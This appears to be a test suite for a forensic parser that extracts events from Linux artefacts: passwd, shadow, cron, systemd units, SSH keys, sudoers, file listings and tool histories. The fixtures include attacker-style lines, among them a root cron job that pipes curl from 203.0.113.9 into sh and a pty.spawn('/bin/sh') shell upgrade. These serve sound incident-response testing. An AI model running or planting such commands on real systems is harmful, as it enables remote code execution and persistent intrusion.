import assert from "node:assert/strict";
import { test } from "node:test";
import { checkLines } from "./state-check.testkit.ts";
import { groupFile, passwdFile, shadowFile } from "../account-files/account-files.ts";
import { authorizedKeys } from "../authorized-keys/authorized-keys.ts";
import { crontab } from "../crontab/crontab.ts";
import { bodyfile, fileList } from "../file-list/file-list.ts";
import { pythonHistory, sqlHistory } from "../history/tool-history.ts";
import { pveFirewall } from "../kernel/pve-firewall.ts";
import { zypperHistory } from "../packages/zypper.ts";
import { sudoers } from "../sudoers/sudoers.ts";
import { systemdUnit } from "../systemd-unit/systemd-unit.ts";
import { viminfo } from "../viminfo/viminfo.ts";
import { homeUser, hostPath } from "./host-path.ts";

test("where a collected file lay", () => {
  assert.equal(hostPath("uac-web.tar.gz!/[root]/etc/cron.d/x"), "/etc/cron.d/x");
  assert.equal(hostPath("c.zip!/uploads/auto/home/a/.ssh/authorized_keys"), "/home/a/.ssh/authorized_keys");
  assert.equal(hostPath("passwd"), undefined);
  assert.equal(homeUser("x!/[root]/root/.bash_history"), "root");
  assert.equal(homeUser("x!/[root]/home/eve/.bash_history"), "eve");
  assert.equal(homeUser("uac.tar.gz!/[root]/etc/passwd"), undefined);
});

test("accounts: passwd, shadow and group; a hash leaves the evidence in no way", () => {
  checkLines(
    passwdFile,
    ["root:x:0:0:root:/root:/bin/bash", "toor:$1$ab$cdefghijklmnopqrstuvw.:0:0::/:/bin/sh"],
    [
      { "user.name": "root", "user.id": "0", "fields.password": "shadow", basis: "none", "file.path": "/etc/passwd" },
      { "user.name": "toor", "user.id": "0", "fields.password": "md5", "fields.shell": "/bin/sh" },
    ],
    "uac.tar.gz!/[root]/etc/passwd",
  );
  const hash = "$y$j9T$abcdefghijklmnop$qrstuvwxyz0123456789";
  const events = checkLines(
    shadowFile,
    [
      `root:${hash}:20513:0:99999:7:::`,
      "www-data:*:19000:0:99999:7:::",
      "old:!$6$x$y:19000:0:99999:7::20000:",
      "open::19000:::::-:",
    ],
    [
      { "user.name": "root", "fields.password": "yescrypt", "fields.last_changed": "2026-03-01" },
      { "fields.password": "none" },
      { "fields.password": "locked", "fields.expires": "2024-10-04" },
      { "fields.password": "empty" },
    ],
  );
  assert.ok(!JSON.stringify(events).includes("j9T"));
  checkLines(
    groupFile,
    ["sudo:x:27:alice,eve", "docker:x:999:"],
    [
      { "group.name": "sudo", "fields.members": ["alice", "eve"] },
      { "group.name": "docker", "fields.gid": "999" },
    ],
  );
});

test("what starts by itself: cron tables, units, keys, sudo rules", () => {
  checkLines(
    crontab,
    ["# m h", "SHELL=/bin/sh", "*/5 * * * * root curl -s http://203.0.113.9/x | sh", "@reboot www-data /tmp/.x/run"],
    [
      { "event.action": "cron_environment", "fields.variable": "SHELL" },
      {
        "event.action": "cron_entry",
        "user.name": "root",
        "fields.schedule": "*/5 * * * *",
        "process.command_line": "curl -s http://203.0.113.9/x | sh",
      },
      { "user.name": "www-data", "fields.schedule": "@reboot", "process.command_line": "/tmp/.x/run" },
    ],
    "x!/[root]/etc/cron.d/job",
  );
  checkLines(
    crontab,
    ["0 3 * * 1-5 /opt/backup.sh a b"],
    [{ "user.name": "eve", "process.command_line": "/opt/backup.sh a b" }],
    "x!/[root]/var/spool/cron/crontabs/eve",
  );
  checkLines(
    systemdUnit,
    [
      "[Unit]",
      "Description=Update",
      "",
      "[Service]",
      "User=nobody",
      "ExecStart=-/bin/sh -c \\",
      "  'x'",
      "ExecStart=/bin/true",
      "[Install]",
      "WantedBy=multi-user.target",
    ],
    [
      {
        "service.name": "upd.service",
        "user.name": "nobody",
        "process.command_line": "/bin/sh -c 'x'",
        "fields.WantedBy": "multi-user.target",
      },
    ],
    "x!/[root]/etc/systemd/system/upd.service",
  );
  const key = `AAAAC3NzaC1lZDI1NTE5AAAAI${"A".repeat(43)}`;
  checkLines(
    authorizedKeys,
    [`ssh-ed25519 ${key} eve@x`, `from="203.0.113.9",command="/tmp/x \\"a\\"" ssh-ed25519 ${key}`],
    [
      {
        "user.name": "eve",
        "fields.comment": "eve@x",
        "fields.fingerprint": "SHA256:kmYcvdi2GkPeWxB6XLjrZB8JHsy2Hm8luHMFp9GMvqk",
      },
      { "process.command_line": '/tmp/x \\"a\\"', "fields.options": 'from="203.0.113.9",command="/tmp/x \\"a\\""' },
    ],
    "x!/[root]/home/eve/.ssh/authorized_keys",
  );
  checkLines(
    sudoers,
    [
      "Defaults env_reset",
      "root ALL=(ALL:ALL) ALL",
      "%wheel ALL=(ALL) NOPASSWD: ALL",
      "eve web=/bin/sh",
      "@includedir /etc/sudoers.d",
    ],
    [
      { "event.action": "sudo_setting" },
      { "event.action": "sudo_rule", "user.name": "root", "fields.commands": "ALL", "fields.runas": "ALL:ALL" },
      { "group.name": "wheel", "fields.tags": "NOPASSWD:" },
      { "user.name": "eve", "process.command_line": "/bin/sh", "fields.runas": "root" },
      { "event.action": "sudo_setting" },
    ],
  );
});

test("lists of files: ls -l, find -ls, body files", () => {
  checkLines(
    fileList,
    [
      "/tmp:",
      "total 8",
      "drwxrwxrwt  2 root root 4096 Mar  1 02:14 .x",
      "-rwsr-xr-x+ 1 root root  123 Dec 31  2024 a b",
      "lrwxrwxrwx 1 root root 3 2026-03-01 02:14:07.123456789 +0800 l -> /x",
      "-rw-r--r-- 1 eve eve 9 3月   1 02:14 中文",
    ],
    [
      { "file.path": "/tmp/.x", at: "2026-03-01T02:14:00.000Z", basis: "year-inferred" },
      { "file.path": "/tmp/a b", "fields.mode": "-rwsr-xr-x+", at: "2024-12-31T00:00:00.000Z", "file.size": 123 },
      { "file.path": "/tmp/l", "fields.target": "/x", at: "2026-02-28T18:14:07.123Z", basis: "stated" },
      { "file.path": "/tmp/中文", "user.name": "eve" },
    ],
  );
  checkLines(
    fileList,
    [
      "   263      4 -rwxr-xr-x   1 eve      eve          3072 Feb 28 02:14 /dev/shm/x",
      "   264      0 crw-rw-rw-   1 root     root       1,   3 Feb 28 02:14 /dev/null",
    ],
    [{ "file.path": "/dev/shm/x", "fields.inode": "263" }, { "file.path": "/dev/null" }],
  );
  checkLines(
    bodyfile,
    [
      "0|/tmp/x|263|-rwxr-xr-x|0|0|3072|1772331247|1772331247|1772331300|0",
      "d41d8cd98f00b204e9800998ecf8427e|/e (deleted)|1|r/rrw-r--r--|0|0|0|0|0|0|0",
    ],
    [
      { at: "2026-03-01T02:14:07.000Z", "event.action": "file_modified", "fields.macb": "ma" },
      { at: "2026-03-01T02:15:00.000Z", "event.action": "file_changed", part: 1 },
      { basis: "none", "file.hash": "d41d8cd98f00b204e9800998ecf8427e" },
    ],
  );
});

test("histories of tools, vim, zypper and the Proxmox firewall", () => {
  checkLines(
    sqlHistory,
    ["_HiStOrY_V2_", String.raw`select\040*\040from\040wp_users;`, String.raw`show\040databases;`],
    [{ "process.command_line": "select * from wp_users;", "user.name": "eve" }, {}],
    "x!/home/eve/.mysql_history",
  );
  checkLines(
    pythonHistory,
    ["import pty", "pty.spawn('/bin/sh')"],
    [{}, { "process.command_line": "pty.spawn('/bin/sh')" }],
    "root/.python_history",
  );
  checkLines(
    viminfo,
    [
      "# This viminfo file was generated by Vim 8.0.",
      "|1,4",
      "# Command Line History (newest to oldest):",
      ":q!",
      '|2,0,1493487327,,"q!"',
      "# File marks:",
      "'0  1  0  /etc/passwd",
      '|4,48,1,0,1493487327,"/etc/passwd"',
      "# Registers:",
      '"0\tLINE\t0',
      "\tsecret",
      '|3,0,0,1,1,0,1493487327,"secret"',
    ],
    [
      { at: "2017-04-29T17:35:27.000Z", "process.command_line": "q!", "event.action": "vim_command" },
      { at: "2017-04-29T17:35:27.000Z", "file.path": "/etc/passwd" },
      { "event.action": "vim_register" },
    ],
  );
  checkLines(
    zypperHistory,
    [
      "# x",
      "2026-03-01 02:14:07|install|nmap|7.9-1|x86_64|root@web|repo|abc|",
      "2026-03-01 02:14:07|command|root@web|'zypper' 'in' 'nmap'|",
    ],
    [
      { "event.action": "package_installed", "fields.package": "nmap", "user.name": "root" },
      { "process.command_line": "zypper in nmap" },
    ],
  );
  checkLines(
    pveFirewall,
    [
      "0 3 PVEFW-HOST-IN 20/Jun/2022:13:09:14 +0200 policy DROP: IN=vmbr0 SRC=203.0.113.9 DST=192.0.2.1 LEN=52 PROTO=TCP SPT=1 DPT=22",
    ],
    [
      {
        at: "2022-06-20T11:09:14.000Z",
        "source.ip": "203.0.113.9",
        "event.outcome": "failure",
        "destination.port": 22,
      },
    ],
  );
});
